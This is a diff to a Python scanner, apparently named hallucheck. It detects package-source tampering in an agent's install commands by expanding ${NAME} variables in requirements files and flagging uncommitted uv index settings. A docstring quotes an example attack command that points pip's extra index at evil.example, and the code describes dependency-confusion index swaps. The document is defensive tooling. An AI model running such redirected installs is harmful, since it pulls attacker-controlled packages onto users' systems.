@@ -116,6 +116,50 @@ class WorkTree:
         return target if target == self.root or self.root in target.parents else None
 
 
+_VARIABLE = LazyPattern(rb"\$\{(?P<name>[A-Z0-9_]+)\}")
+"""What pip expands in a requirements file (its own pattern: upper case, digits, ``_``)."""
+_COMMENT = LazyPattern(rb"(?:^|\s)#")
+
+
+class Expanded(WorkTree):
+    """The requirements files on disk as pip reads them: each ``${NAME}`` (outside comments) replaced by the value
+    the command's text sets for it (attack E25: ``PRIVATE_INDEX=https://evil.example/simple pip install -r
+    requirements.txt`` over a committed ``--extra-index-url ${PRIVATE_INDEX}``). A name the command does not
+    set, or sets to a value known only at run time, comes from an environment hallucheck cannot see: the file
+    is :class:`Unreadable` (asked about)."""
+
+    def __init__(self, tree: WorkTree, environment: Mapping[str, str]) -> None:
+        self.root = tree.root
+        self.files_read = tree.files_read
+        self._tree = tree
+        self._environment = environment
+
+    def read(self, path: str) -> bytes | None:
+        data = self._tree.read(path)
+        if data is None or b"${" not in data:
+            return data
+        return b"\n".join(self._expanded(path, line) for line in data.split(b"\n"))
+
+    def _expanded(self, path: str, line: bytes) -> bytes:
+        if b"${" not in line:
+            return line
+        comment = _COMMENT.search(line)
+        code, rest = (line[:comment.start()], line[comment.start():]) if comment else (line, b"")
+
+        def value(match: re.Match[bytes]) -> bytes:
+            from hallucheck.sources.install_commands import UNKNOWN
+
+            name = match.group("name").decode()
+            found = self._environment.get(name)
+            if found is None or UNKNOWN in found:
+                how = "does not set it" if found is None else "sets it to a value known only when it runs"
+                raise Unreadable(f"`{path}` names `${{{name}}}`, which pip takes from the environment, and the "
+                                 f"command {how}")
+            return found.encode("utf-8", "surrogateescape")
+
+        return _VARIABLE.sub(value, code) + rest
+
+
 def disk_names(commands: Sequence[InstallCommand], text: str | None, cwd: Path, root: Path | None,
                committed: Snapshot | None) -> DiskNames:
     """The packages the inputs of ``commands`` (read from disk, from ``cwd`` or the directories ``text``
@@ -129,9 +173,10 @@ def disk_names(commands: Sequence[InstallCommand], text: str | None, cwd: Path, 
     for command in commands:
         directories = _candidates(changes, command.offset)
         for item in command.inputs:
+            reading = tree if item.project or item.runs else Expanded(tree, dict(command.environment))
             try:
                 for relative in _located(item, directories, unknown_directory, top):
-                    for argument, origin in _new_names(item, relative, tree, committed):
+                    for argument, origin in _new_names(item, relative, reading, committed):
                         result.names.append((command, argument, origin))
             except Unreadable as reason:
                 result.unread.append(_unread(command, item, str(reason)))
@@ -461,3 +506,98 @@ def _unread(command: InstallCommand, item: DiskInput, reason: str) -> Finding:
         "Run the install once the file is written and staged (`git add` it: what git holds is checked), or "
         "confirm it yourself.",
     )  # fmt: skip
+
+
+_UV_CONFIGURATION = ("uv.toml", "pyproject.toml")
+_SOURCE_KEYS = frozenset({"url", "index-url", "extra-index-url", "find-links", "default-index", "git"})
+
+
+def disk_sources(commands: Sequence[InstallCommand], text: str | None, cwd: Path, root: Path | None,
+                 committed: Snapshot | None) -> list[Finding]:
+    """HC043 for each package source that uv's configuration on disk sets and HEAD does not (attack E3): a
+    ``uv.toml``, or ``[tool.uv]`` of a ``pyproject.toml``, in a directory a uv command runs in or above it (uv
+    reads the nearest), written or edited by the agent and not committed (``[[index]] url = ... default =
+    true``: every declared package then comes from there)."""
+    if root is None or not any(command.tool.startswith("uv") for command in commands):
+        return []
+    top = root.resolve()
+    tree = WorkTree(top)
+    committed = committed if committed is not None else MemorySnapshot({}, "git")
+    changes, _ = _working_directories(text, cwd)
+    findings: list[Finding] = []
+    seen: set[str] = set()
+    for _, directory in changes:
+        current = Path(os.path.normpath(directory)).resolve()
+        while current == top or top in current.parents:
+            for name in _UV_CONFIGURATION:
+                relative = (current / name).relative_to(top).as_posix()
+                if relative in seen:
+                    continue
+                seen.add(relative)
+                try:
+                    disk = tree.read(relative)
+                except Unreadable as reason:
+                    findings.append(_unread_configuration(relative, str(reason)))
+                    continue
+                git = committed.read(relative)
+                if disk is None or disk == git:
+                    continue
+                known = _uv_sources(relative, git)
+                findings += [_disk_source(relative, where, value) for where, value in _uv_sources(relative, disk)
+                             if (where, value) not in known]
+            if current == top:
+                break
+            current = current.parent
+    return findings
+
+
+def _uv_sources(path: str, data: bytes | None) -> set[tuple[str, str]]:
+    """(key path, value) of every source uv's settings in ``data`` name: index URLs, find-links, ``[tool.uv.
+    sources]`` URLs and git repositories, and direct references in override or constraint lists."""
+    if data is None:
+        return set()
+    from hallucheck.manifests.tomlfile import load_toml
+
+    try:
+        document, _ = load_toml(_decoded(data), path)
+    except (RecursionError, ValueError):
+        return set()
+    if document is None:
+        return set()
+    settings: object = document
+    if posixpath.basename(path) == "pyproject.toml":
+        tool = document.get("tool")
+        settings = tool.get("uv") if isinstance(tool, dict) else None
+    found: set[tuple[str, str]] = set()
+    stack: list[tuple[str, object]] = [("", settings)]
+    while stack and len(found) < 1000:
+        where, value = stack.pop()
+        if isinstance(value, dict):
+            stack += [(f"{where}.{key}".lstrip("."), item) for key, item in value.items()]
+        elif isinstance(value, list):
+            stack += [(where, item) for item in value]
+        elif isinstance(value, str) and (where.rpartition(".")[2] in _SOURCE_KEYS or "://" in value
+                                         or value.startswith("git+")):
+            found.add((where, value))
+    return found
+
+
+def _disk_source(path: str, where: str, value: str) -> Finding:
+    from hallucheck.findings import finding
+    from hallucheck.sources.index_settings import redacted
+
+    shown = redacted(value)
+    return finding(
+        "HC043", "command", 1, 1,
+        f"`{path}` on disk sets `{where} = {shown}` for uv, which the last commit does not: a package source only "
+        "the disk has, for every package the command installs",
+        f"Make sure `{shown}` is the source the project means (the dependency-confusion move keeps the names and "
+        "changes the index), then commit the setting, or confirm this command yourself.",
+    )  # fmt: skip
+
+
+def _unread_configuration(path: str, reason: str) -> Finding:
+    from hallucheck.findings import finding
+
+    return finding("HC042", "command", 1, 1, f"uv's configuration `{path}` cannot be read: {reason}",
+                   "Confirm the command yourself.")
